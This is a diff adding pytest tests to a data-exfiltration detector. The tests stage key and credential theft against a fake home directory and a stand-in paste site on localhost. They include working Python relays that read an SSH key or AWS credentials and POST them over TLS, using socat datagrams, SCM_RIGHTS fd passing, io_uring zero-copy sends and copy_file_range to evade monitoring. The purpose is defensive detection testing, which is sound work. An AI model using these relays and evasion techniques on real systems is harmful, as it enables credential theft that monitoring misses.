@@ -815,3 +815,257 @@ def test_io_uring_write_into_a_pipe(monitor, uring_read):
     finish(writer, reader)
     assert_same_channel(monitor, writer.pid, reader.pid, "pipe", 8000)
     assert get(io_records(monitor, writer.pid, "write", "pipe")[0], "exfilwatch.object.fd") == -1
+
+
+# --- Class: unconnected datagram senders (each datagram addressed on its own) ----------------
+# socat UNIX-SENDTO and UDP-SENDTO send every datagram with sendto(dest) on a socket that never
+# connected: no peer joins sender and receiver, so the kernel names the channel where the bytes
+# reach the reader, by the datagram's sender. A relay in another session receives and uploads.
+
+DGRAM_RELAY = """
+import os, socket, ssl, sys
+
+def post(data):
+    c = ssl._create_unverified_context()
+    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
+    s.recv(100)
+
+family, address, ready, action = sys.argv[1:5]
+if family == "unix":
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
+    s.bind(address)
+else:
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.bind(("127.0.0.1", int(address)))
+open(ready, "w").close()
+data = s.recv(65536)                  # the first datagram, then whatever follows within 1.5 s
+s.settimeout(1.5)
+try:
+    while True:
+        data += s.recv(65536)
+except socket.timeout:
+    pass
+if action == "upload":
+    post(data)
+"""
+
+
+def dgram_relay(tmp_path):
+    tool = tmp_path / "dgram_relay.py"
+    tool.write_text(DGRAM_RELAY.format(port=HTTPS_PORT, paste=PASTE))
+    return f"{paths.PYTHON} {tool}"
+
+
+def start_relay(relay, family, address, ready, action):
+    """Shell text: the relay in the background, then wait until it is bound."""
+    return (f"{relay} {family} {address} {ready} {action} & "
+            f"for i in $(seq 200); do [ -e {ready} ] && break; sleep 0.05; done; ")
+
+
+def datagram_ids(records, process_name, direction, kind):
+    return {get(r, "exfilwatch.object.id") for r in records
+            if is_action("object-io", {"exfilwatch.object.kind": kind,
+                                       "exfilwatch.object.direction": direction})(r)
+            and str(get(r, "process.name", "")).startswith(process_name)}
+
+
+def dgram_target(tmp_path, family, name):
+    return (tmp_path / f"{name}.sock") if family == "unix" else free_port()
+
+
+def socat_sendto(family, target):
+    return f"UNIX-SENDTO:{target}" if family == "unix" else f"UDP-SENDTO:127.0.0.1:{target}"
+
+
+@pytest.mark.parametrize("family", ["unix", "udp"])
+def test_unconnected_datagrams_to_a_relay_that_uploads(monitor, standin, fake_home, tmp_path, family):
+    # 512-byte datagrams, each sent with its own address by an unconnected socket; the relay
+    # (another session) never read the key.
+    key = key_of(fake_home)
+    target = dgram_target(tmp_path, family, "relay")
+    shell = (start_relay(dgram_relay(tmp_path), family, target, tmp_path / "ready", "upload")
+             + f"setsid socat -u -b 512 FILE:{key} {socat_sendto(family, target)}; wait")
+    dataflow_attack(monitor, standin, fake_home, tmp_path, f"dgram-{family}", shell)
+    kind = "unix_socket" if family == "unix" else "loopback_socket"
+    records = monitor.records()
+    sent = datagram_ids(records, "socat", "write", kind)
+    received = datagram_ids(records, "python3", "read", kind)
+    assert sent & received, f"no {kind} object both written by socat ({sent}) and read by the relay ({received})"
+    assert_no_secret(monitor, key)
+
+
+@pytest.mark.parametrize("family", ["unix", "udp"])
+def test_unconnected_datagrams_from_a_key_reader_to_another_receiver_are_silent(
+        monitor, standin, fake_home, tmp_path, family):
+    # The twin: the key goes by datagram to a receiver that keeps it (a local log sink); a build
+    # report goes the same way, from another unconnected sender, to the relay that uploads.
+    key = key_of(fake_home)
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 100)
+    relay = dgram_relay(tmp_path)
+    sink, up = dgram_target(tmp_path, family, "sink"), dgram_target(tmp_path, family, "relay")
+    shell = (start_relay(relay, family, sink, tmp_path / "ready-sink", "keep")
+             + start_relay(relay, family, up, tmp_path / "ready-up", "upload")
+             + f"setsid socat -u -b 512 FILE:{key} {socat_sendto(family, sink)}; "
+             + f"setsid socat -u -b 512 FILE:{report} {socat_sendto(family, up)}; wait")
+    scenario = Scenario(f"dgram-{family}-twin", "silent", shell, domain=PASTE, uploads=True)
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    wait_for_evidence(monitor, scenario, standin)
+    monitor.stop()
+    # The relay's upload stays silent. (socat sending the key itself to a UDP port has a network
+    # flow of its own, an unnamed upload to 127.0.0.1: that alert is not the relay's.)
+    assert_silent([r for r in monitor.records() if get(r, "destination.port") == HTTPS_PORT])
+
+
+# --- Class: a descriptor passed by SCM_RIGHTS ---------------------------------------------------
+# The opener never reads; the receiver, in another session, reads the key through the fd it was
+# given (a read of a file it was not seen opening) and uploads it.
+
+SCM_FILE_TOOL = """
+import os, socket, ssl, sys, time
+
+def post(data):
+    c = ssl._create_unverified_context()
+    s = c.wrap_socket(socket.create_connection(("127.0.0.1", {port})), server_hostname="{paste}")
+    s.sendall(b"POST / HTTP/1.1\\r\\nHost: {paste}\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(data) + data)
+    s.recv(100)
+
+mode, path = sys.argv[1], sys.argv[2]
+if mode == "take":                       # receive an fd, read what it opens, upload it
+    l = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    l.bind(path)
+    l.listen(1)
+    open(sys.argv[3], "w").close()
+    c, _ = l.accept()
+    _, fds, _, _ = socket.recv_fds(c, 16, 1)
+    data = b""
+    while True:
+        chunk = os.read(fds[0], 65536)
+        if not chunk:
+            break
+        data += chunk
+    post(data)
+else:                                    # open a file (never read it) and pass the fd on
+    fd = os.open(sys.argv[3], os.O_RDONLY)
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    s.connect(path)
+    socket.send_fds(s, [b"f"], [fd])
+"""
+
+
+def scm_file_shell(tmp_path, passed):
+    tool = tmp_path / "scm_file.py"
+    tool.write_text(SCM_FILE_TOOL.format(port=HTTPS_PORT, paste=PASTE))
+    sock, ready = tmp_path / "fd.sock", tmp_path / "fd.ready"
+    return (f"{paths.PYTHON} {tool} take {sock} {ready} & "
+            f"for i in $(seq 200); do [ -e {ready} ] && break; sleep 0.05; done; "
+            f"setsid {paths.PYTHON} {tool} give {sock} {passed}; wait")
+
+
+def test_file_descriptor_of_the_key_passed_by_scm_rights(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "scm-rights-file", scm_file_shell(tmp_path, key))
+    records = monitor.records()
+    inode = str(os.stat(key).st_ino)
+    readers = [r for r in records
+               if is_action("file-summary", {"file.inode": inode})(r)
+               and get(r, "exfilwatch.file.bytes_read", 0) >= os.stat(key).st_size]
+    assert readers, "no file-summary of the key read through the passed fd"
+    assert all(get(r, "file.path") == str(key) for r in readers), [get(r, "file.path") for r in readers]
+    assert_no_secret(monitor, key)
+
+
+def test_file_descriptor_of_a_harmless_file_passed_by_scm_rights_is_silent(monitor, standin, fake_home,
+                                                                           tmp_path):
+    # The twin: a log file's fd handed to the uploader the same way (a log shipper's shape).
+    log = tmp_path / "build.log"
+    log.write_text("step 3 of 7 done\n" * 200)
+    silent_run(monitor, standin, fake_home, tmp_path, "scm-rights-harmless", scm_file_shell(tmp_path, log))
+
+
+# --- Class: io_uring fixed files, direct descriptors and zero-copy sends -----------------------
+
+@pytest.fixture(scope="module")
+def uring_fixed(tmp_path_factory):
+    source = paths.TOOLS_DIR / "uring_fixed.c"
+    binary = tmp_path_factory.mktemp("uring_fixed") / "uring_fixed"
+    done = subprocess.run(["gcc", "-O2", "-Wall", "-o", str(binary), str(source), "-luring"],
+                          capture_output=True, text=True, timeout=120)
+    if done.returncode != 0:
+        pytest.fail(f"cannot compile {source} (liburing-dev comes with scripts/setup):\n"
+                    f"{done.stderr[-3000:]}", pytrace=False)
+    return binary
+
+
+def uring_fixed_scenario(binary, first, second, expect):
+    from harness.config import HTTP_PORT
+    shell = f"{binary} {HTTP_PORT} {PASTE} {first} {second}"
+    extra = {"technique": "T1567.003"} if expect == "alert" else {}
+    return Scenario(f"uring-fixed-{expect}", expect, shell, domain=PASTE, uploads=True, **extra), HTTP_PORT
+
+
+def test_io_uring_fixed_files_and_zero_copy_send(monitor, standin, fake_home, tmp_path, uring_fixed):
+    # The key opened into a fixed-file slot (no fd, no open(2)), the AWS credentials registered as
+    # a fixed file and their fd closed; each read with READ and READ_FIXED on the fixed file and
+    # SPLICE from it; both files sent with SEND_ZC as a plain-HTTP POST to the paste site.
+    key = key_of(fake_home)
+    aws = fake_home.files[".aws/credentials"]
+    scenario, _ = uring_fixed_scenario(uring_fixed, key, aws, "alert")
+    found = run_attack(scenario, monitor, standin, fake_home, tmp_path)
+    assert any(get(a, "destination.domain") == PASTE for a in found), [get(a, "destination.domain") for a in found]
+    records = monitor.records()
+    opens = opened(records, key, "uring_fixed")
+    assert all(not get(r, "exfilwatch.file.requested_path") for r in opens)
+    opened(records, aws, "uring_fixed", requested=str(aws))
+    for path in (key, aws):
+        size = os.stat(path).st_size
+        summaries = [r for r in records
+                     if is_action("file-summary", {"process.name": "uring_fixed", "file.path": str(path)})(r)]
+        assert summaries, f"no file-summary of {path}"
+        assert get(summaries[-1], "exfilwatch.file.bytes_read") == 3 * size, \
+            f"{path.name}: {get(summaries[-1], 'exfilwatch.file.bytes_read')} bytes counted, 3 x {size} read"
+    assert_no_secret(monitor, key)
+
+
+def test_io_uring_fixed_files_of_harmless_files_are_silent(monitor, standin, fake_home, tmp_path, uring_fixed):
+    report, notes = tmp_path / "report.txt", tmp_path / "notes.txt"
+    report.write_text("build 1234 passed\n" * 100)
+    notes.write_text("release notes\n" * 100)
+    scenario, port = uring_fixed_scenario(uring_fixed, report, notes, "silent")
+    execute(scenario, fake_home, tmp_path, HTTPS_PORT)
+    check_service_saw(scenario, standin)
+    monitor.wait_for(lambda r: get(r, "event.action") == "flow-summary" and get(r, "destination.port") == port
+                     and get(r, "destination.domain") == PASTE, WAIT_S, f"a flow-summary to {PASTE}:{port}")
+    monitor.stop()
+    records = monitor.records()
+    assert [r for r in records if is_action("file-summary", {"process.name": "uring_fixed",
+                                                             "file.path": str(report)})(r)]
+    assert_silent([r for r in records if get(r, "destination.port") == port or str(tmp_path) in json.dumps(r)])
+
+
+# --- Class: copy_file_range to a staging file --------------------------------------------------
+# The kernel copies file to file (no read(2) or write(2) of the bytes in the process); the
+# staging file then goes up under its own name.
+
+COPY_RANGE = ("import os, sys; i = os.open(sys.argv[1], os.O_RDONLY); "
+              "o = os.open(sys.argv[2], os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600); "
+              "n = os.fstat(i).st_size\n"
+              "while n > 0: n -= os.copy_file_range(i, o, n)")
+
+
+def test_copy_file_range_to_a_staging_file(monitor, standin, fake_home, tmp_path):
+    key = key_of(fake_home)
+    stage = tmp_path / "stage.bin"
+    shell = (f"{paths.PYTHON} -c '{COPY_RANGE}' {key} {stage} && " + UPLOAD.format(stage))
+    dataflow_attack(monitor, standin, fake_home, tmp_path, "copy-file-range", shell)
+    assert_no_secret(monitor, key)
+
+
+def test_copy_file_range_of_a_harmless_file_is_silent(monitor, standin, fake_home, tmp_path):
+    report = tmp_path / "report.txt"
+    report.write_text("build 1234 passed\n" * 200)
+    stage = tmp_path / "stage.bin"
+    shell = (f"{paths.PYTHON} -c '{COPY_RANGE}' {report} {stage} && " + UPLOAD.format(stage))
+    silent_run(monitor, standin, fake_home, tmp_path, "copy-file-range-harmless", shell)
